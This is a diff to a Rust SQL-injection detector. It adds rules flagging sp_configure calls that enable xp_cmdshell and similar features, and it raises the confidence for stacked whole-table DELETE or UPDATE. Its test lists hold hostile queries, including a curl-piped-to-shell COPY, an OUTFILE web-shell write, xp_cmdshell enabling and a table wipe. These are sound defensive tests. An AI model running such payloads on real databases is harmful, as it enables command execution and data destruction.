@@ -744,6 +744,17 @@ fn dangerous_calls(t: &[Tok], strict: bool, found: &mut Vec<(Confidence, &'stati
             found.push((Confidence::High, "sql.time-blind", at));
         } else if name == "INTO" && t.get(j).is_some_and(|x| x.is_any(&["OUTFILE", "DUMPFILE"])) {
             found.push((Confidence::High, "sql.file-or-network", at));
+        } else if last_part(&name) == "SP_CONFIGURE"
+            && t.get(j).is_some_and(|x| {
+                x.kind == Kind::Str
+                    && matches!(
+                        x.text.to_ascii_lowercase().as_str(),
+                        "xp_cmdshell" | "ole automation procedures" | "ad hoc distributed queries" | "external scripts enabled"
+                    )
+            })
+        {
+            // Turning on command execution or out-of-band access.
+            found.push((Confidence::High, "sql.file-or-network", at));
         } else if name == "COPY" {
             // COPY ... FROM/TO PROGRAM 'cmd'
             let end = (j + 40).min(t.len());
@@ -1232,7 +1243,12 @@ fn statement_rules(text: &str, len: usize, strict: bool, found: &mut Vec<(Confid
                     x.at.start..next.at.end,
                 ));
             } else if write {
-                found.push((Confidence::Low, "sql.stacked-statement", x.at.start..next.at.end));
+                // A DELETE or UPDATE of every row after a read: Medium; other writes: Low.
+                let whole_table = next.is_any(&["DELETE", "UPDATE"])
+                    && stacked(&sig, i + 1).is_some()
+                    && !sig.iter().skip(i + 1).take_while(|y| y.kind != Kind::Semi).take(64).any(|y| y.is("WHERE"));
+                let c = if whole_table { Confidence::Medium } else { Confidence::Low };
+                found.push((c, "sql.stacked-statement", x.at.start..next.at.end));
             }
         }
         if (x.is_any(&["OR", "XOR"]) || x.is_op("||"))
@@ -1707,6 +1723,8 @@ mod tests {
             "SELECT name FROM users WHERE name = 'O''Brien' OR email LIKE '%@example.com'",
             "CREATE TABLE t (id int); ALTER TABLE t ADD COLUMN name text; DROP INDEX IF EXISTS t_idx;",
             "SELECT hex(randomblob(16)) AS id",
+            "SELECT count(*) FROM staging; DELETE FROM staging WHERE loaded_at < now() - interval '7 days'",
+            "EXEC sp_configure 'max server memory (MB)', 4096; RECONFIGURE",
         ];
         for q in ok {
             assert!(!flagged(q, "query"), "{q}");
@@ -1718,6 +1736,8 @@ mod tests {
             "SELECT * FROM users INTO OUTFILE '/var/www/shell.php'",
             "COPY t FROM PROGRAM 'curl http://x | sh'",
             "EXEC xp_cmdshell 'net user'",
+            "EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE",
+            "SELECT * FROM users; DELETE FROM users",
             "SELECT a FROM t UNION SELECT NULL,NULL,NULL--",
         ];
         for q in bad {
